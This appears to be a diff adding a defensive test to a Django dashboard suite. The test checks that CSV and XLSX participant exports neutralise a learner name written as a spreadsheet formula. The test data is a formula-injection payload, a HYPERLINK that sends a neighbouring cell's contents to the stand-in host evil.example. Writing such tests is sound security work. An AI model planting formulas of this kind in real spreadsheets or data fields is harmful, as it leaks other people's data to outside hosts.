@@ -173,3 +173,19 @@ def test_the_participants_export_costs_the_same_queries_for_3_and_20_courses(cli
     few = queries()
     grow(17)
     assert queries() == few
+
+
+def test_a_name_typed_as_a_formula_stays_text_in_csv_and_xlsx(client, small):
+    """A learner's own name must never run as a formula in the spreadsheet."""
+    learner = small.learners[0]
+    learner.full_name = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+    learner.save(update_fields=["full_name"])
+    course = small.nw_course
+    csv_response = client.get("/dashboard/exports/course_participants.csv", {"course": course.pk})
+    _header, *rows = csv_rows(csv_response)
+    assert rows[0][0] == "'" + learner.full_name
+    xlsx = client.get("/dashboard/exports/course_participants.xlsx", {"course": course.pk})
+    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content) if xlsx.streaming else
+                                     xlsx.content)).active  # fmt: skip
+    cell = sheet.cell(2, 1)
+    assert cell.data_type == "s" and cell.value == "'" + learner.full_name
